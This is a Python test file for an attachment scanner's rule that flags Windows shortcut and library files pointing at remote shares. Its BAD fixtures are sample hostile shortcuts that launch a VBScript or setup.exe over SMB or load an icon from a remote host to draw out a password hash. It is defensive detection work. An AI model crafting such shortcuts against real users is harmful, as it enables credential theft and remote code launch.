"""Shortcuts that shortcut_opens_remote_file must find, and (more) that it must leave alone."""

from __future__ import annotations

import pytest

from tests.files_shortcuts import internet_shortcut, link_file
from tests.workers.attachments.scan import File, found

LIBRARY = (
    b"<libraryDescription><simpleLocation><url>\\\\files.example\\share\\</url></simpleLocation></libraryDescription>"
)

BAD: dict[str, File] = {
    "a script over SMB": ("a.url", internet_shortcut("file://203.0.113.5/share/a.vbs")),
    "a share": ("b.url", internet_shortcut("\\\\files.example\\share\\a.lnk")),
    "an icon that asks for the password": (
        "c.url",
        internet_shortcut("https://example.com/", extra="IconFile=\\\\203.0.113.5\\i\\a.ico\r\n"),
    ),
    "a program": ("d.lnk", link_file("\\\\files.example\\share\\setup.exe")),
    "a library": ("e.library-ms", LIBRARY),
    "a program on our own server, nearly nothing": ("f.lnk", link_file("\\\\server\\tools\\setup.exe")),
}
GOOD: dict[str, File] = {
    "a web page": ("a.url", internet_shortcut("https://example.com/path/")),
    "an icon of the site": (
        "b.url",
        internet_shortcut("https://example.com/", extra="IconFile=https://example.com/favicon.ico\r\n"),
    ),
    "a file here": ("c.url", internet_shortcut("file:///C:/Users/ann/a.pdf")),
    "an icon here": ("d.url", internet_shortcut("https://example.com/", extra="IconFile=C:\\Windows\\a.dll\r\n")),
    "a folder of our server": ("e.lnk", link_file("\\\\server\\projects\\2026")),
    "a document of our server": ("f.lnk", link_file("\\\\server\\projects\\report.docx")),
    "a program here": ("g.lnk", link_file("C:\\Program Files\\App\\app.exe")),
    "a mail address": ("h.url", internet_shortcut("mailto:office@example.com")),
    "a text": ("i.txt", internet_shortcut("file://203.0.113.5/share/a.vbs")),
}


def test_our_own_server_weighs_nearly_nothing() -> None:
    (finding,) = found("shortcut_opens_remote_file", BAD["a program on our own server, nearly nothing"])
    assert finding.weight == 0.5


@pytest.mark.parametrize("file", BAD.values(), ids=BAD)
def test_is_found(file: File) -> None:
    assert len(found("shortcut_opens_remote_file", file)) == 1


@pytest.mark.parametrize("file", GOOD.values(), ids=GOOD)
def test_is_left_alone(file: File) -> None:
    assert found("shortcut_opens_remote_file", file) == []
